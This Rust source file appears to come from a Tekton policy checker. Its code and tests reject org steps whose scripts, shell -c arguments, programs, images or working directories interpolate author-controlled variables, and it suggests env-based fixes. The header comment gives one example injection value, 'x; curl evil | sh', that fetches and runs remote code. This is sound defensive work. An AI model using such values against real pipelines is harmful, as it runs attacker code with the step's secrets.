//! An org step must not run code the TaskRun's author writes.
//!
//! Tekton substitutes variables into a step's text before the step runs, so a `$(params.url)`
//! in a `script` becomes part of the script: a TaskRun that passes `url: "x; curl evil | sh"`
//! runs its own code inside the org's step, with the org step's image, mounts and secrets.
//! Values the author controls are `$(params.…)`, `$(workspaces.<w>.path|claim|volume)` (the
//! author declares the workspace, and its `mountPath` is used verbatim), the results (and
//! artifacts) of steps that are not the policy's own, and `$(tasks.…)`. They may reach an org
//! step through `env` (`env: [{name: URL, value: "$(params.url)"}]`, then `"$URL"` in the
//! script), where they stay data.
//!
//! Checked: `script`; the script after `-c` when `command` (with `args`) runs a shell; `image`,
//! `command[0]` and `workingDir`, which choose what runs.

use std::collections::BTreeSet;

use super::path::{Errors, FieldPath};
use super::syntax::references;
use crate::policy::api::Step;

/// Programs taken for a shell (by the last part of their path).
pub const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "ksh"];

/// The author-controlled variables in `step`'s shell strings, image, program and workingDir.
/// `own_steps` are the policy's step names, whose results the policy itself writes.
pub(super) fn check(step: &Step, at: &FieldPath, own_steps: &BTreeSet<&str>, errs: &mut Errors) {
    if let Some(script) = &step.script {
        report(Place::Script, &at.field("script"), script, own_steps, errs);
    }
    let command = step.command.as_deref().unwrap_or_default();
    if !command.is_empty() {
        let args = step.args.as_deref().unwrap_or_default();
        let argv: Vec<&str> = command.iter().chain(args).map(String::as_str).collect();
        if let Some(i) = shell_script_index(&argv) {
            let path = if i < command.len() {
                at.field_index("command", i)
            } else {
                at.field_index("args", i - command.len())
            };
            report(Place::ShellArg, &path, argv[i], own_steps, errs);
        }
        report(
            Place::Program,
            &at.field_index("command", 0),
            &command[0],
            own_steps,
            errs,
        );
    }
    if let Some(image) = &step.image {
        report(Place::Image, &at.field("image"), image, own_steps, errs);
    }
    if let Some(dir) = &step.working_dir {
        report(
            Place::WorkingDir,
            &at.field("workingDir"),
            dir,
            own_steps,
            errs,
        );
    }
}

/// Where a variable was found, which decides the message.
#[derive(Clone, Copy)]
enum Place {
    Script,
    ShellArg,
    Program,
    Image,
    WorkingDir,
}

fn report(place: Place, at: &FieldPath, text: &str, own_steps: &BTreeSet<&str>, errs: &mut Errors) {
    let mut found: Vec<&str> = Vec::new();
    for r in references(text) {
        if author_controlled(r, own_steps) && !found.contains(&r) {
            found.push(r);
        }
    }
    let Some(first) = found.first() else {
        return;
    };
    let list = found
        .iter()
        .map(|r| format!("$({r})"))
        .collect::<Vec<_>>()
        .join(", ");
    let env = env_name(first);
    let via_env = format!("env: [{{name: {env}, value: \"$({first})\"}}]");
    let message = match place {
        Place::Script | Place::ShellArg => format!(
            "{} uses {list}, which the TaskRun's author controls: Tekton pastes the value into the script before the shell runs, so the author could run their own code in this org step; pass it through env instead: {via_env}, and \"${env}\" (in double quotes) in the script",
            if matches!(place, Place::Script) {
                "script"
            } else {
                "the shell's -c script"
            }
        ),
        Place::Program => format!(
            "command[0] uses {list}, which the TaskRun's author controls, so the author would choose the program this org step runs; write the program literally, and pass values it needs through env ({via_env})"
        ),
        Place::Image => format!(
            "image uses {list}, which the TaskRun's author controls, so the author would choose the image this org step runs; write the image literally"
        ),
        Place::WorkingDir => format!(
            "workingDir uses {list}, which the TaskRun's author controls, so the author would choose the directory this org step runs in; write workingDir literally, and pass values the step needs through env ({via_env})"
        ),
    };
    errs.add(at, message);
}

/// Whether the variable `r` (the text inside `$(…)`) holds a value the TaskRun's author
/// chooses. Not: `context.*`, `results.*`, `step.*`, `credentials.path`, a step's
/// `exitCode.path`, the policy's own steps' results, and a shell's own `$(command)`.
fn author_controlled(r: &str, own_steps: &BTreeSet<&str>) -> bool {
    if let Some(rest) = r.strip_prefix("params") {
        return rest.starts_with('.') || rest.starts_with('[');
    }
    if let Some(rest) = r.strip_prefix("workspaces.") {
        return rest
            .split_once('.')
            .is_some_and(|(_, field)| matches!(field, "path" | "claim" | "volume"));
    }
    if let Some(rest) = r.strip_prefix("steps.") {
        return rest
            .split_once('.')
            .is_some_and(|(step, tail)| tail != "exitCode.path" && !own_steps.contains(step));
    }
    r.starts_with("tasks.")
}

/// A name for the env var the message suggests: `params.git-url` → `GIT_URL`,
/// `workspaces.src.path` → `SRC_PATH`, `steps.build.results.digest` → `BUILD_DIGEST`.
fn env_name(r: &str) -> String {
    let body = ["params", "workspaces.", "steps.", "tasks."]
        .iter()
        .find_map(|p| r.strip_prefix(p))
        .unwrap_or(r)
        .replace(".results.", ".")
        .replace("[*]", "");
    let mut name = String::new();
    for c in body.chars() {
        if c.is_ascii_alphanumeric() {
            name.push(c.to_ascii_uppercase());
        } else if !name.is_empty() && !name.ends_with('_') {
            name.push('_');
        }
    }
    let name = name.trim_end_matches('_');
    match name.chars().next() {
        None => "VALUE".to_owned(),
        Some(c) if c.is_ascii_digit() => format!("V_{name}"),
        Some(_) => name.to_owned(),
    }
}

/// Index in `argv` (`command` then `args`) of the script a shell runs with `-c`, if `argv`
/// runs a shell that way: `sh -c S`, `/bin/bash -euo pipefail -c S`, `sh -ec S`,
/// `env [-i] [-u NAME] [VAR=value] sh -c S`, `busybox sh -c S`.
fn shell_script_index(argv: &[&str]) -> Option<usize> {
    let program = |s: &str| s.rsplit('/').next().unwrap_or(s).to_owned();
    let mut i = 0;
    // Wrappers that run the program named after them.
    loop {
        match program(argv.get(i)?).as_str() {
            "env" => {
                i += 1;
                while let Some(a) = argv.get(i) {
                    match *a {
                        "-u" | "--unset" | "-C" | "--chdir" => i += 2,
                        "--" => {
                            i += 1;
                            break;
                        }
                        a if a.starts_with('-') || a.contains('=') => i += 1,
                        _ => break,
                    }
                }
            }
            "busybox" => i += 1,
            _ => break,
        }
    }
    if !SHELLS.contains(&program(argv.get(i)?).as_str()) {
        return None;
    }
    i += 1;
    let mut dash_c = false;
    while let Some(a) = argv.get(i) {
        match *a {
            "--" => {
                i += 1;
                break;
            }
            // Options that take the next argument.
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" => i += 2,
            a if a.starts_with("--") => i += 1,
            a if a.len() > 1 && (a.starts_with('-') || a.starts_with('+')) => {
                let flags = &a[1..];
                if a.starts_with('-') && flags.contains('c') {
                    dash_c = true;
                }
                // `-eo pipefail`: a cluster ending in o/O takes the next argument too.
                i += if flags.ends_with(['o', 'O']) { 2 } else { 1 };
            }
            _ => break,
        }
    }
    (dash_c && i < argv.len()).then_some(i)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn own() -> BTreeSet<&'static str> {
        BTreeSet::from(["bookend-setup", "bookend-scan"])
    }

    fn run(step: &Step) -> Vec<String> {
        let mut errs = Errors::new();
        check(
            step,
            &FieldPath::new("spec").field_index("preSteps", 0),
            &own(),
            &mut errs,
        );
        errs.into_vec()
            .into_iter()
            .map(|e| format!("{}: {}", e.path, e.message))
            .collect()
    }

    fn shell(command: &[&str], args: &[&str]) -> Step {
        Step {
            name: "bookend-x".into(),
            image: Some("alpine".into()),
            command: Some(command.iter().map(|s| (*s).to_owned()).collect()),
            args: (!args.is_empty()).then(|| args.iter().map(|s| (*s).to_owned()).collect()),
            ..Step::default()
        }
    }

    #[test]
    fn author_variables_are_recognised() {
        for r in [
            "params.url",
            "params.obj.key",
            "params.list[*]",
            "params.list[0]",
            r#"params["a.b"]"#,
            "params['a.b']",
            "workspaces.src.path",
            "workspaces.src.claim",
            "workspaces.src.volume",
            "steps.build.results.digest",
            "steps.build.outputs.image",
            "steps.step-unnamed-0.results.x",
            "tasks.build.results.digest",
            "tasks.status",
        ] {
            assert!(author_controlled(r, &own()), "{r}");
        }
        for r in [
            "context.taskRun.name",
            "context.taskRun.namespace",
            "context.taskRun.uid",
            "context.task.name",
            "context.task.retry-count",
            "results.digest.path",
            "step.results.out.path",
            "steps.build.exitCode.path",
            "steps.step-build.exitCode.path",
            "steps.bookend-setup.results.token",
            "credentials.path",
            "workspaces.src.bound",
            "cat /tekton/steps/0/exitCode",
            "date",
            "parameters",
        ] {
            assert!(!author_controlled(r, &own()), "{r}");
        }
    }

    #[test]
    fn a_script_with_a_param_is_refused_with_the_env_fix() {
        let step = Step {
            name: "bookend-x".into(),
            image: Some("alpine".into()),
            script: Some("curl $(params.url) -o $(results.out.path) $(params.url)".into()),
            ..Step::default()
        };
        assert_eq!(
            run(&step),
            [
                r#"spec.preSteps[0].script: script uses $(params.url), which the TaskRun's author controls: Tekton pastes the value into the script before the shell runs, so the author could run their own code in this org step; pass it through env instead: env: [{name: URL, value: "$(params.url)"}], and "$URL" (in double quotes) in the script"#
            ]
        );
    }

    #[test]
    fn the_dash_c_script_is_found_after_the_shells_options() {
        let cases: &[(&[&str], &[&str], &str)] = &[
            (&["sh", "-c"], &["echo $(params.a)"], "args[0]"),
            (&["/bin/sh", "-c", "echo $(params.a)"], &[], "command[2]"),
            (
                &["bash"],
                &["-euo", "pipefail", "-c", "echo $(params.a)"],
                "args[3]",
            ),
            (&["bash", "-ec", "echo $(params.a)"], &[], "command[2]"),
            (
                &["bash", "--norc", "-o", "errexit", "-c"],
                &["x $(params.a)"],
                "args[0]",
            ),
            (
                &["/usr/bin/env", "sh", "-c"],
                &["echo $(params.a)"],
                "args[0]",
            ),
            (
                &["env", "-i", "A=b", "-u", "X", "dash", "-c", "$(params.a)"],
                &[],
                "command[7]",
            ),
            (&["busybox", "ash", "-c"], &["$(params.a)"], "args[0]"),
            (&["zsh", "-c"], &["$(params.a)"], "args[0]"),
            (&["/bin/ksh", "-xc"], &["$(params.a)"], "args[0]"),
        ];
        for (command, args, field) in cases {
            let m = run(&shell(command, args));
            assert_eq!(m.len(), 1, "{command:?} {args:?}: {m:?}");
            assert!(
                m[0].starts_with(&format!(
                    "spec.preSteps[0].{field}: the shell's -c script uses $(params.a)"
                )),
                "{m:?}"
            );
        }
    }

    #[test]
    fn values_passed_as_data_are_not_flagged() {
        let safe: &[(&[&str], &[&str])] = &[
            // Positional parameters after the script are data to the shell.
            (&["sh", "-c", r#"curl "$1""#, "sh", "$(params.url)"], &[]),
            // Not a shell: an argument, not code.
            (&["curl"], &["$(params.url)"]),
            (&["python3", "-c", "print(1)"], &["$(params.url)"]),
            // A shell without -c reads a file.
            (&["sh", "/scripts/run.sh"], &["$(params.url)"]),
            // Safe variables in the script.
            (
                &["sh", "-c"],
                &[
                    "echo $(context.taskRun.name) $(steps.bookend-setup.results.t) $(steps.build.exitCode.path) > $(results.r.path)",
                ],
            ),
        ];
        for (command, args) in safe {
            assert_eq!(
                run(&shell(command, args)),
                Vec::<String>::new(),
                "{command:?} {args:?}"
            );
        }
        // In env, a value is data.
        let mut step = shell(&["sh", "-c"], &[r#"curl "$URL""#]);
        step.env = Some(vec![k8s_openapi::api::core::v1::EnvVar {
            name: "URL".into(),
            value: Some("$(params.url)".into()),
            ..Default::default()
        }]);
        assert!(run(&step).is_empty());
    }

    #[test]
    fn image_program_and_working_dir_are_refused_with_their_own_message() {
        let mut step = shell(&["$(params.tool)"], &["$(params.url)"]);
        step.image = Some("registry/$(params.image):1".into());
        step.working_dir = Some("$(workspaces.source.path)".into());
        assert_eq!(
            run(&step),
            [
                r#"spec.preSteps[0].command[0]: command[0] uses $(params.tool), which the TaskRun's author controls, so the author would choose the program this org step runs; write the program literally, and pass values it needs through env (env: [{name: TOOL, value: "$(params.tool)"}])"#,
                "spec.preSteps[0].image: image uses $(params.image), which the TaskRun's author controls, so the author would choose the image this org step runs; write the image literally",
                r#"spec.preSteps[0].workingDir: workingDir uses $(workspaces.source.path), which the TaskRun's author controls, so the author would choose the directory this org step runs in; write workingDir literally, and pass values the step needs through env (env: [{name: SOURCE_PATH, value: "$(workspaces.source.path)"}])"#,
            ]
        );
    }

    #[test]
    fn several_variables_are_named_once_each() {
        let step = shell(
            &["sh", "-c"],
            &[
                "git clone $(params.repo) $(workspaces.src.path) && git checkout $(params.repo) $(steps.build.results.sha)",
            ],
        );
        let m = run(&step);
        assert_eq!(m.len(), 1);
        assert!(
            m[0].contains(
                "uses $(params.repo), $(workspaces.src.path), $(steps.build.results.sha), which"
            ),
            "{m:?}"
        );
    }

    #[test]
    fn env_names() {
        assert_eq!(env_name("params.git-url"), "GIT_URL");
        assert_eq!(env_name(r#"params["a.b"]"#), "A_B");
        assert_eq!(env_name("params.list[*]"), "LIST");
        assert_eq!(env_name("workspaces.src.path"), "SRC_PATH");
        assert_eq!(env_name("steps.build.results.digest"), "BUILD_DIGEST");
        assert_eq!(env_name("tasks.t.results.r"), "T_R");
        assert_eq!(env_name("params.1st"), "V_1ST");
        assert_eq!(env_name("params.-"), "VALUE");
    }
}
